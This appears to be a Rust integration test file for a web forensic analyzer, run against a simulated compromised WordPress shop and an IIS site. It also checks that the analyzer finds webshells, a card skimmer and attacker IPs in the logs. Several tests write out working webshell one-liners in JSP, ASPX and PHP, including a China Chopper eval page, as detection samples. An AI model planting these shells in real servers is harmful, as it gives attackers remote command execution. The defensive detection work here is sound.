//! Integration tests of the web analyzer: a clean WordPress-like tree, the planted attack with
//! its access log and file times, IIS and gzip logs, baselines, the analyzer contract and the
//! demo.
#![allow(
    clippy::unwrap_used,
    reason = "helpers of the tests: a failure there is a test failure"
)]

use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::SystemTime;

use chrono::{DateTime, Duration, Utc};
use ir110_model::{AnalysisContext, Analyzer, Catalog, Severity, SourceFile, SourceKind};
use ir110_weblog::{
    AttackTimeline, WebAnalyzer, WebOptions, WebReport, YaraRules, attack_access_log,
    build_baseline, clean_site, demo_files, planted_files, scan,
};

fn write_tree(root: &Path, files: &[(String, Vec<u8>)], mtime: DateTime<Utc>) {
    for (rel, bytes) in files {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        let mut f = std::fs::File::create(&p).unwrap();
        f.write_all(bytes).unwrap();
        f.set_modified(SystemTime::from(mtime)).unwrap();
    }
}

fn old() -> DateTime<Utc> {
    DateTime::from_timestamp(1_748_736_000, 0).unwrap() // 2025-06-01
}

fn data(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(name)
}

/// The shop after the attack: planted files with their times, the access log beside it.
fn attacked_site(dir: &Path) -> (PathBuf, PathBuf) {
    let root = dir.join("www");
    write_tree(&root, &clean_site(), old());
    let t = AttackTimeline::demo();
    let times = t.file_times();
    for (rel, bytes) in planted_files() {
        let when = times.iter().find(|(p, _)| *p == rel).map(|x| x.1).unwrap();
        write_tree(&root, &[(rel, bytes)], when);
    }
    let log = dir.join("access.log");
    std::fs::write(&log, attack_access_log(1, &t)).unwrap();
    (root, log)
}

#[test]
fn clean_wordpress_like_tree_has_no_finding() {
    let dir = tempfile::tempdir().unwrap();
    write_tree(dir.path(), &clean_site(), old());
    let r = scan(Some(dir.path()), None, &[], WebOptions::default()).unwrap();
    assert_eq!(r.files_scanned, 28);
    assert!(r.files.is_empty(), "{:#?}", r.files);
    assert!(r.findings.is_empty());
    assert!(r.problems.is_empty());
}

fn rules_of(r: &WebReport, path: &str) -> Vec<String> {
    r.files
        .iter()
        .find(|f| f.path == path)
        .map(|f| f.reasons.iter().map(|x| x.rule.clone()).collect())
        .unwrap_or_default()
}

#[test]
fn planted_files_and_first_compromise_are_found() {
    let dir = tempfile::tempdir().unwrap();
    let (root, log) = attacked_site(dir.path());
    let r = scan(Some(&root), None, &[log], WebOptions::default()).unwrap();
    let flagged: Vec<(&str, Severity)> = r
        .files
        .iter()
        .map(|f| (f.path.as_str(), f.severity))
        .collect();
    assert_eq!(
        flagged,
        [
            (
                "wp-content/plugins/hello/hello-helper.php",
                Severity::Critical
            ),
            ("wp-content/themes/shop/js/checkout.js", Severity::Critical),
            ("wp-content/uploads/2026/01/cache.php", Severity::Critical),
            ("wp-content/themes/shop/images/banner.gif", Severity::High),
        ]
    );
    assert_eq!(
        rules_of(&r, "wp-content/uploads/2026/01/cache.php"),
        [
            "php.eval-decoded",
            "php.eval-request",
            "heuristic.script-in-uploads",
            "heuristic.recently-changed"
        ]
    );
    assert_eq!(
        rules_of(&r, "wp-content/themes/shop/js/checkout.js"),
        [
            "js.card-skimmer",
            "js.form-grabber",
            "heuristic.recently-changed"
        ]
    );
    assert_eq!(r.files[1].foreign_domains, ["cdn-jq-analytics.example.ru"]);
    // The YARA match behind a verdict is cited with its string and offset.
    let shell = r
        .findings
        .iter()
        .find(|f| f.data["path"] == "wp-content/uploads/2026/01/cache.php")
        .unwrap();
    assert_eq!(
        shell.data["yara_matches"][0],
        serde_json::json!({"rule": "php.eval-decoded", "string": "$eval", "offset": 50,
            "length": 19, "data": "eval(base64_decode("})
    );
    assert_eq!(
        rules_of(&r, "wp-content/themes/shop/images/banner.gif"),
        ["image.code"]
    );

    // First compromise: the upload through the file-manager plugin, then the shell.
    let fc: Vec<(&str, Option<&str>, Option<&str>)> = r
        .first_compromises
        .iter()
        .map(|c| {
            (
                c.file.as_str(),
                c.creating_request.as_ref().map(|q| q.request.as_str()),
                c.first_access.as_ref().map(|q| q.client.as_str()),
            )
        })
        .collect();
    let second = Some("POST /wp-content/uploads/2026/01/cache.php 200");
    assert_eq!(
        fc,
        [
            (
                "wp-content/uploads/2026/01/cache.php",
                Some("POST /wp-admin/admin-ajax.php?action=mk_file_folder_manager 200"),
                Some("198.51.100.23")
            ),
            // Reached first by a customer loading the page: the planted code ran in browsers.
            (
                "wp-content/plugins/hello/hello-helper.php",
                second,
                Some("203.0.113.200")
            ),
            (
                "wp-content/themes/shop/images/banner.gif",
                second,
                Some("150.143.130.176")
            ),
            (
                "wp-content/themes/shop/js/checkout.js",
                second,
                Some("150.143.130.176")
            ),
        ]
    );
    let first = &r.first_compromises[0];
    let start = first.attack_start.as_ref().unwrap();
    assert_eq!(start.client, "198.51.100.23");
    assert_eq!(start.ts, AttackTimeline::demo().scan_start);
    let creating = first.creating_request.as_ref().unwrap();
    let text = std::fs::read_to_string(dir.path().join("access.log")).unwrap();
    let n: usize = creating
        .source
        .locator
        .as_deref()
        .unwrap()
        .trim_start_matches("line ")
        .parse()
        .unwrap();
    assert!(
        text.lines()
            .nth(n - 1)
            .unwrap()
            .contains("mk_file_folder_manager")
    );

    let attackers: Vec<(&str, u64)> = r
        .attackers
        .iter()
        .map(|a| (a.client.as_str(), a.attack_requests))
        .collect();
    assert_eq!(attackers, [("198.51.100.23", 20), ("203.0.113.200", 4)]);
    assert_eq!(r.attackers[0].kinds["scanner"], 10);
    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
    assert_eq!(
        rules,
        [
            "web.webshell",
            "web.skimmer",
            "web.webshell",
            "web.webshell",
            "web.first-compromise",
            "web.first-compromise",
            "web.first-compromise",
            "web.first-compromise",
            "web.attacker",
            "web.attacker",
        ]
    );
    assert_eq!(r.events.len(), 8);
}

#[test]
fn iis_and_gzip_logs_are_read() {
    let r = scan(None, None, &[data("u_ex260120.log")], WebOptions::default()).unwrap();
    assert_eq!(
        (r.logs[0].format, r.logs[0].requests, r.logs[0].bad_lines),
        (Some("w3c"), 11, 1)
    );
    assert_eq!(r.problems.len(), 1);
    let a = &r.attackers[0];
    assert_eq!(a.client, "45.155.205.9");
    let kinds: Vec<&str> = a.kinds.keys().map(String::as_str).collect();
    assert_eq!(
        kinds,
        ["probe", "scanner", "sqli", "traversal", "webshell-access"]
    );
    // The shell in an upload folder, reached from the log alone.
    assert_eq!(r.first_compromises.len(), 1);
    assert_eq!(r.first_compromises[0].file, "upload/files/errors.aspx");

    let dir = tempfile::tempdir().unwrap();
    let gz = dir.path().join("access.log.2.gz");
    let mut enc = flate2::write::GzEncoder::new(
        std::fs::File::create(&gz).unwrap(),
        flate2::Compression::fast(),
    );
    enc.write_all(attack_access_log(2, &AttackTimeline::demo()).as_bytes())
        .unwrap();
    enc.finish().unwrap();
    let r = scan(None, None, &[gz], WebOptions::default()).unwrap();
    assert_eq!(r.logs[0].format, Some("combined"));
    assert_eq!(r.logs[0].requests, 2035);
    assert_eq!(r.attackers.len(), 2);
}

#[test]
fn iis_scenario_first_compromise_with_file_times() {
    // An IIS site: a vulnerable upload handler, then a China Chopper page in the upload folder
    // (generated here, never stored), written one second after the upload request.
    let dir = tempfile::tempdir().unwrap();
    let mut site: Vec<(String, Vec<u8>)> = (0..24)
        .map(|i| {
            (
                format!("pages/p{i:02}.aspx"),
                format!("<%@ Page Language=\"C#\" %><h1>Page {i}</h1>").into_bytes(),
            )
        })
        .collect();
    site.push((
        "default.aspx".into(),
        b"<%@ Page Language=\"C#\" %><h1>Welcome</h1>".to_vec(),
    ));
    write_tree(dir.path(), &site, old());
    let shell_time = DateTime::from_timestamp(1_768_872_601, 0).unwrap(); // 2026-01-20 01:30:01Z
    write_tree(
        dir.path(),
        &[(
            "upload/files/errors.aspx".to_owned(),
            b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>".to_vec(),
        )],
        shell_time,
    );
    let r = scan(
        Some(dir.path()),
        None,
        &[data("u_ex260120.log")],
        WebOptions::default(),
    )
    .unwrap();
    assert_eq!(r.files.len(), 1);
    assert_eq!(r.files[0].reasons[0].rule, "aspx.eval-request");
    assert_eq!(r.first_compromises.len(), 1);
    let c = &r.first_compromises[0];
    assert_eq!(c.file, "upload/files/errors.aspx");
    let created = c.creating_request.as_ref().unwrap();
    assert_eq!(created.request, "POST /upload/handler.ashx 200");
    assert_eq!(created.source.locator.as_deref(), Some("line 12"));
    let first = c.first_access.as_ref().unwrap();
    assert_eq!(
        (first.client.as_str(), first.source.locator.as_deref()),
        ("45.155.205.9", Some("line 13"))
    );
    assert_eq!(
        c.attack_start.as_ref().unwrap().source.locator.as_deref(),
        Some("line 8")
    );
}

#[test]
fn baseline_lists_added_changed_removed() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("www");
    write_tree(&root, &clean_site(), old());
    let manifest = dir.path().join("baseline.json");
    build_baseline(&root).unwrap().write(&manifest).unwrap();
    write_tree(&root, &planted_files(), old() + Duration::days(200));
    std::fs::remove_file(root.join("robots.txt")).unwrap();
    let r = scan(Some(&root), Some(&manifest), &[], WebOptions::default()).unwrap();
    let diff = r.baseline.as_ref().unwrap();
    let names =
        |v: &Vec<ir110_weblog::FileChange>| v.iter().map(|c| c.path.clone()).collect::<Vec<_>>();
    assert_eq!(
        names(&diff.added),
        [
            "wp-content/plugins/hello/hello-helper.php",
            "wp-content/uploads/2026/01/cache.php"
        ]
    );
    assert_eq!(
        names(&diff.changed),
        [
            "wp-content/themes/shop/images/banner.gif",
            "wp-content/themes/shop/js/checkout.js"
        ]
    );
    assert_eq!(names(&diff.removed), ["robots.txt"]);
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "web.baseline-changed" && f.severity == Severity::High)
    );
    assert!(ir110_weblog::Baseline::read(&data("u_ex260120.log")).is_err());
}

#[test]
fn jsp_aspx_and_obfuscated_php_shells_match_rules() {
    // Generated here, never stored: classic one-liners of each family.
    let samples: [(&str, &str, &str); 7] = [
        (
            "a.jsp",
            "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
            "jsp.exec-request",
        ),
        (
            "b.aspx",
            "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>",
            "aspx.eval-request",
        ),
        (
            "c.aspx",
            "<%@ Page Language=\"C#\" %><% var psi = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]); System.Diagnostics.Process.Start(psi); %>",
            "aspx.process-request",
        ),
        (
            "d.php",
            "<?php $a = preg_replace(\"/.*/e\", $_POST['code'], ''); ?>",
            "php.preg-replace-e",
        ),
        (
            "e.php",
            "<?php $f = ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}; $x = chr(115).chr(121).chr(115); ?>",
            "php.variable-obfuscation",
        ),
        (
            "f.php",
            "<?php file_put_contents('x.php', $_POST['body']); ?>",
            "php.request-to-file",
        ),
        (
            "g.php",
            "<?php $k = $_COOKIE['k']; $d = gzinflate(base64_decode($k)); eval($d); ?>",
            "heuristic.request-to-exec",
        ),
    ];
    let rules = YaraRules::load(&[]);
    let dir = tempfile::tempdir().unwrap();
    for (name, content, rule) in samples {
        write_tree(
            dir.path(),
            &[(name.to_owned(), content.as_bytes().to_vec())],
            old(),
        );
        let r = scan(Some(dir.path()), None, &[], WebOptions::default()).unwrap();
        let found = r
            .files
            .iter()
            .find(|f| f.path == name)
            .map(|f| f.reasons[0].rule.clone());
        assert_eq!(found.as_deref(), Some(rule), "{name}");
        std::fs::remove_file(dir.path().join(name)).unwrap();
    }
    assert_eq!(rules.len(), 19);
    // A user rule folder adds rules: the older TOML format, and YARA files; a broken YARA
    // file is a problem naming it, and the scan goes on.
    let rd = dir.path().join("rules");
    std::fs::create_dir(&rd).unwrap();
    std::fs::write(rd.join("local.toml"), "[[rule]]\nid = \"local.marker\"\nkind = \"webshell\"\nseverity = \"high\"\nfiles = [\"html\"]\nany = ['hacked by']\n").unwrap();
    std::fs::write(
        rd.join("deface.yar"),
        "rule defacement_banner { meta: kind = \"webshell\" severity = \"medium\" files = \"html\" strings: $h = /<h1>hacked by/ nocase condition: $h }",
    )
    .unwrap();
    std::fs::write(rd.join("broken.yara"), "rule broken { condition: $nope }").unwrap();
    write_tree(
        dir.path(),
        &[(
            "index.html".to_owned(),
            b"<h1>Hacked by someone</h1> hacked by".to_vec(),
        )],
        old(),
    );
    let opts = WebOptions {
        rule_dirs: vec![rd],
        ..WebOptions::default()
    };
    let r = scan(Some(dir.path()), None, &[], opts).unwrap();
    assert_eq!(
        r.files.iter().map(|f| f.path.as_str()).collect::<Vec<_>>(),
        ["index.html"]
    );
    let reasons: Vec<(&str, Option<u64>)> = r.files[0]
        .reasons
        .iter()
        .map(|x| (x.rule.as_str(), x.line))
        .collect();
    assert_eq!(
        reasons,
        [
            ("deface.defacement_banner", Some(1)),
            ("local.marker", Some(1))
        ]
    );
    let yara = &r.files[0].reasons[0].strings;
    assert_eq!(
        yara.iter()
            .map(|m| (m.string.as_str(), m.offset, m.data.as_str()))
            .collect::<Vec<_>>(),
        [("$h", 0, "<h1>Hacked by")]
    );
    let broken: Vec<&ir110_model::Problem> = r
        .problems
        .iter()
        .filter(|p| p.path.ends_with("broken.yara"))
        .collect();
    assert_eq!(broken.len(), 1, "{:?}", r.problems);
    assert_eq!(broken[0].kind, ir110_model::ProblemKind::Corrupt);
}

/// Every test collects what analyzers push in memory.
type Collect = ir110_model::MemorySink;

#[test]
fn triage_finds_the_demo_site() {
    let dir = tempfile::tempdir().unwrap();
    let analyzer = WebAnalyzer::default();
    let mut sources = Vec::new();
    for (rel, bytes) in demo_files(1) {
        let path = dir.path().join(&rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &bytes).unwrap();
        let source = SourceFile {
            path,
            display_path: rel,
            size: bytes.len() as u64,
            kind: SourceKind::sniff(&bytes[..bytes.len().min(65_536)]),
            modified: None,
            sha256: None,
        };
        if analyzer.accepts(&source) {
            sources.push(source);
        }
    }
    assert_eq!(sources.len(), 31);
    let elsewhere = |p: &str| SourceFile {
        path: p.into(),
        display_path: p.into(),
        size: 10,
        kind: SourceKind::Text(ir110_model::TextFormat::Plain),
        modified: None,
        sha256: None,
    };
    // Desktop application scripts are not a website; server-side scripts are web code anywhere.
    assert!(!analyzer.accepts(&elsewhere(
        "Users/sato/AppData/Local/Programs/chat/resources/app.js"
    )));
    assert!(!analyzer.accepts(&elsewhere("Users/sato/Pictures/2025/img_0001.jpg")));
    assert!(analyzer.accepts(&elsewhere("srv/shop/index.php")));
    assert!(analyzer.accepts(&elsewhere("var/www/shop/js/app.js")));
    // A vhost-prefixed combined log sniffs as plain text; its name says it is an access log.
    assert!(analyzer.accepts(&elsewhere("var/log/httpd/ssl_access_log")));
    let sink = Collect::default();
    analyzer.analyze(&sources, &AnalysisContext::default(), &sink);
    let findings = sink.findings.into_inner().unwrap();
    let mut rules: Vec<(String, String)> = findings
        .iter()
        .filter(|f| f.rule != "web.attacker")
        .map(|f| {
            (
                f.rule.clone(),
                f.data
                    .get("path")
                    .or_else(|| f.data.get("file"))
                    .and_then(|v| v.as_str())
                    .unwrap_or("")
                    .to_owned(),
            )
        })
        .collect();
    rules.sort();
    assert_eq!(
        rules,
        [
            // Written without their times: only files reached by attack requests are joined.
            (
                "web.first-compromise".to_owned(),
                "wp-content/plugins/hello/hello-helper.php".to_owned()
            ),
            (
                "web.first-compromise".to_owned(),
                "wp-content/uploads/2026/01/cache.php".to_owned()
            ),
            (
                "web.skimmer".to_owned(),
                "wp-content/themes/shop/js/checkout.js".to_owned()
            ),
            (
                "web.webshell".to_owned(),
                "wp-content/plugins/hello/hello-helper.php".to_owned()
            ),
            (
                "web.webshell".to_owned(),
                "wp-content/themes/shop/images/banner.gif".to_owned()
            ),
            (
                "web.webshell".to_owned(),
                "wp-content/uploads/2026/01/cache.php".to_owned()
            ),
        ]
    );
    let skimmer = findings.iter().find(|f| f.rule == "web.skimmer").unwrap();
    assert_eq!(
        skimmer.evidence[0].path,
        "web/site/wp-content/themes/shop/js/checkout.js"
    );
    assert!(sink.problems.into_inner().unwrap().is_empty());
    assert_eq!(
        ir110_weblog::webroot_of("web/site/wp-content/x.php"),
        ("web/site".to_owned(), "wp-content/x.php".to_owned())
    );
}

#[test]
fn every_message_key_exists_in_both_languages() {
    let catalog = Catalog::from_sources(&[ir110_model::MESSAGES, ir110_weblog::MESSAGES]).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let (root, log) = attacked_site(dir.path());
    let manifest = dir.path().join("b.json");
    build_baseline(&dir.path().join("www"))
        .unwrap()
        .write(&manifest)
        .unwrap();
    std::fs::write(root.join("new.php"), "<?php echo 1;").unwrap();
    let r = scan(Some(&root), Some(&manifest), &[log], WebOptions::default()).unwrap();
    let mut rules = std::collections::BTreeSet::new();
    for f in &r.findings {
        rules.insert(f.rule.clone());
        for m in std::iter::once(&f.title)
            .chain(f.summary.iter())
            .chain(f.actions.iter())
        {
            for lang in [ir110_model::Lang::Ja, ir110_model::Lang::En] {
                assert!(catalog.contains(&m.key), "{}", m.key);
                assert!(!catalog.render(m, lang).contains('{'), "{}", m.key);
            }
        }
    }
    assert_eq!(rules.len(), 6, "{rules:?}");
    for key in [
        "web.obfuscated.title",
        "web.suspicious-timestamps.title",
        "web.cli.files",
        "web.cli.first-compromise",
        "web.cli.attackers",
        "web.cli.baseline-written",
        "web.cli.nothing",
    ] {
        assert!(catalog.contains(key), "{key}");
    }
}

/// Mutated and truncated access logs and page files: never a panic, always a report.
#[test]
fn mangled_input_never_panics() {
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let combined = attack_access_log(3, &AttackTimeline::demo()).into_bytes();
    let iis = std::fs::read(data("u_ex260120.log")).unwrap();
    for original in [&combined[..20_000], &iis[..]] {
        for round in 0..30 {
            let mut bytes = original.to_vec();
            for _ in 0..(1 + round % 16) {
                let i = (next() % bytes.len() as u64) as usize;
                bytes[i] = (next() & 0xff) as u8;
            }
            bytes.truncate(bytes.len() - (next() % 300) as usize);
            let mut s = ir110_weblog::WebScan::new(WebOptions::default()).unwrap();
            s.ingest_log(&bytes[..], ir110_model::SourceRef::file("access.log"));
            let r = s.finish();
            assert_eq!(r.logs.len(), 1);
        }
    }
    let dir = tempfile::tempdir().unwrap();
    for (i, (rel, bytes)) in planted_files().into_iter().enumerate() {
        let mut b = bytes;
        for _ in 0..8 {
            let k = (next() % b.len() as u64) as usize;
            b[k] = (next() & 0xff) as u8;
        }
        write_tree(dir.path(), &[(format!("{i}/{rel}"), b)], old());
    }
    assert!(scan(Some(dir.path()), None, &[], WebOptions::default()).is_ok());
}
